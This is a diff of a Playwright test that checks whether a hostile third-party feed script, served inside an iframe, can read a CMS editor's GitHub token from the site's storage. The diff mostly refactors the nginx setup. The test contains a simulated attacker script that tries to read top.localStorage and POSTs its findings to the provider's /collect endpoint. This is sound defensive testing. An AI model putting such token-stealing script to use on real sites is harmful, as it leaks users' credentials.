@@ -1,7 +1,7 @@
 import type { ConsoleMessage, Page } from '@playwright/test';
 import { feedWidget } from '../src/data/feed';
-import { expect, test, waitForHydration } from './fixtures';
-import { nginxMissing, nginxMissingReason, startNginx } from './nginxServer';
+import { expect, feedPictureScript, test, waitForHydration } from './fixtures';
+import { nginxForFile } from './nginxServer';
 
 /**
  * A hostile or compromised feed provider, on the built site as nginx serves it (its headers and policy):
@@ -10,17 +10,8 @@ import { nginxMissing, nginxMissingReason, startNginx } from './nginxServer';
  * reads nothing of the site's, and sends nothing of hers away; the widget still shows, with no policy
  * violation.
  */
-let base = '';
-let stop = () => {};
-
-test.skip(nginxMissing, nginxMissingReason);
 test.describe.configure({ mode: 'serial' });
-
-test.beforeAll(async ({ browserName: _ }, testInfo) => {
-  ({ base, stop } = await startNginx(testInfo, 6));
-});
-
-test.afterAll(() => stop());
+const nginx = nginxForFile(6);
 
 /** What Sveltia keeps for her once she has signed in: her GitHub token, in the site's storage. */
 const TOKEN = 'gho_herSecretToken0123456789';
@@ -39,13 +30,7 @@ const hostileProvider = `
   attempt('topStorage', () => JSON.stringify(top.localStorage));
   attempt('origin', () => origin);
   fetch('${new URL(feedWidget.scriptUrl).origin}/collect', { method: 'POST', body: JSON.stringify(found) });
-  window.ExampleFeed = { init(container) {
-    const img = document.createElement('img');
-    img.alt = 'Publication Instagram';
-    img.width = 300; img.height = 300;
-    img.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
-    container.appendChild(img);
-  } };`;
+  ${feedPictureScript}`;
 
 /** What the provider sent home. */
 async function answerAsHostileProvider(page: Page) {
@@ -75,17 +60,17 @@ test('a hostile feed provider cannot read her editor’s token, and the feed sti
   });
   const sent = await answerAsHostileProvider(page);
   // She signed in to her editor on this site: Sveltia keeps her token in the origin's storage.
-  await page.goto(`${base}/admin`);
+  await page.goto(`${nginx.base}/admin`);
   await page.evaluate((token) => localStorage.setItem('sveltia-cms.user', JSON.stringify({ token })), TOKEN);
 
-  await page.goto(`${base}/services`);
+  await page.goto(`${nginx.base}/services`);
   await waitForHydration(page);
   await page.getByRole('heading', { name: 'Rejoignez ma communauté' }).scrollIntoViewIfNeeded();
   // Her default asks first (click-to-load): the visitor asks for the feed.
   if (feedWidget.consent === 'click')
     await page.getByRole('button', { name: 'Afficher le fil Instagram' }).click();
   const feed = page.frameLocator(`#${feedWidget.container.id} > iframe`);
-  await expect(feed.getByRole('img', { name: 'Publication Instagram' })).toBeVisible({ timeout: 10_000 });
+  await expect(feed.getByRole('img', { name: 'Publication Instagram' })).toBeVisible();
   await expect(page.getByText('Chargement du feed Instagram…')).toHaveCount(0);
 
   await expect.poll(() => sent.length).toBe(1);
